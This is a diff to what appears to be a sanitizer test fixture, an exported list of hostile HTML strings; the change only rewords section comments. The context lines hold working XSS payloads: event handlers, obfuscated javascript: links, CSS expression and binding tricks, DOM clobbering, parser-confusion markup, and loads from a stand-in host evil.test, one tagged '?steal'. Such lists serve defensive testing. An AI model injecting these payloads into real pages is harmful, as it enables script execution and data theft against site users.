@@ -66,7 +66,7 @@ export const hostile = [
   '<xmp><script>x()</script></xmp>',
   '<plaintext><script>x()</script>',
   '<listing>&lt;script&gt;x()&lt;/script&gt;</listing>',
-  // Handlers on elements that may stand in a text
+  // Handlers on elements that a text may contain
   '<p onmouseover=x()>t</p>',
   '<p onpointerenter="x()" onfocusin="x()" tabindex=0>t</p>',
   '<b onanimationstart=x() style="animation-name:spin">t</b>',
@@ -84,7 +84,7 @@ export const hostile = [
   '<h1 contenteditable oninput=x()>t</h1>',
   '<p draggable=true ondragstart=x()>t</p>',
   '<marquee onstart=x()>t</marquee>',
-  // Addresses that run, hide what they are, or lead to another host
+  // Addresses that run code, hide what they are, or lead to another host
   '<a href="java&#115;cript:x()">t</a>',
   '<a href="&#x6a;&#x61;vascript:x()">t</a>',
   '<a href="java&Tab;script:x()">t</a>',
@@ -108,7 +108,7 @@ export const hostile = [
   '<blockquote cite="javascript:x()">t</blockquote>',
   '<q cite="javascript:x()">t</q>',
   '<table><tr><td background="//evil.test/x">t</td></tr></table>',
-  // What covers, deceives or loads
+  // Elements that cover the page, deceive, or load something
   '<p style="width:expression(x())">t</p>',
   '<p style="-moz-binding:url(//evil.test/x.xml#x)">t</p>',
   '<span style="background-image:url(//evil.test/?steal)">t</span>',
@@ -134,7 +134,7 @@ export const hostile = [
   '<a id=x name=location href="/m/help">t</a>',
   '<form id=document><img name=cookie></form>',
   '<img name=body src="/x.png" form=x>',
-  // What parsers read in two ways
+  // HTML that parsers interpret in two ways
   '<math><annotation-xml encoding="text/html"><script>x()</script></annotation-xml></math>',
   '<svg><foreignObject><iframe src="javascript:x()"></iframe></foreignObject></svg>',
   '<svg><use href="data:image/svg+xml,<svg id=x onload=x()>#x"/></svg>',
